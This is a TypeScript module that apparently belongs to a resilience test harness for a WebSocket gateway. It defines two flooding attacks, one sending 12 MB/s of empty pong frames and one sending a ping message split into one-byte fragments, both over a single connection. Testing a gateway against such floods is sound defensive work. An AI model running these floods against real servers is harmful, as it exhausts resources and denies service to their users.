import type { Attack } from "../attack.ts";
import { clientFrame, OPCODE, repeated } from "../attacker/frames.ts";
import { keepSending } from "../attacker/keep-sending.ts";

const WRITE_BYTES = 65_536;
/** 12 MB/s in writes of 64 KiB. */
const WRITES_PER_SECOND = 183;
/** Number of fragments in one message. A gateway accepts more. */
const FRAGMENTS = 1_000;

const shared = {
  shapes: ["split", "standalone"],
  perSecond: WRITES_PER_SECOND,
  unit: "writes of 64 KiB",
} as const;

/** A frame of six bytes costs the gateway as much work as a long frame. */
export const emptyPongs: Attack = {
  ...shared,
  name: "empty-pongs",
  title: "12 MB/s of empty pongs on one connection",
  run: (attacker) => {
    const pongs = repeated(clientFrame("", OPCODE.pong), WRITE_BYTES);
    return keepSending(attacker, { next: () => pongs });
  },
};

/** A `ping` frame of Parley's protocol, padded with spaces and sent in fragments of one byte. */
export const tinyFragments: Attack = {
  ...shared,
  name: "tiny-fragments",
  title: "12 MB/s of fragments of one byte on one connection",
  run: (attacker) => {
    const text = '{"type":"ping"}'.padEnd(FRAGMENTS);
    const fragments = Array.from(text, (byte, at) =>
      clientFrame(byte, at === 0 ? OPCODE.text : OPCODE.continuation, at === FRAGMENTS - 1),
    );
    const writes = repeated(Buffer.concat(fragments), WRITE_BYTES);
    return keepSending(attacker, { next: () => writes });
  },
};
